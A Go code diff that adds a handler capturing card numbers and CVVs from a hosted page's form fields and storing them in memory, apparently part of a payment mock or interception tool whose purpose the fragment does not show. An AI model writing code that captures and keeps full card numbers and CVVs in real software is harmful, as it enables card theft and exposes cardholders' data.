@@ -5,6 +5,7 @@ import (
 	"context"
 	"io"
 	"net/http"
+	"net/url"
 	"regexp"
 	"slices"
 	"strings"
@@ -245,6 +246,17 @@ func (c *cards) note(body string) {
 	if cvv != nil {
 		used.cvv = cvv[1]
 	}
+	c.keep(used)
+}
+
+// noteTyped is note for a form of the hosted page.
+func (c *cards) noteTyped(f url.Values) {
+	if pan := f.Get("pan"); pan != "" {
+		c.keep(typed{pan: strings.ReplaceAll(pan, " ", ""), cvv: f.Get("cvv")})
+	}
+}
+
+func (c *cards) keep(used typed) {
 	c.mu.Lock()
 	defer c.mu.Unlock()
 	if c.seen == nil {
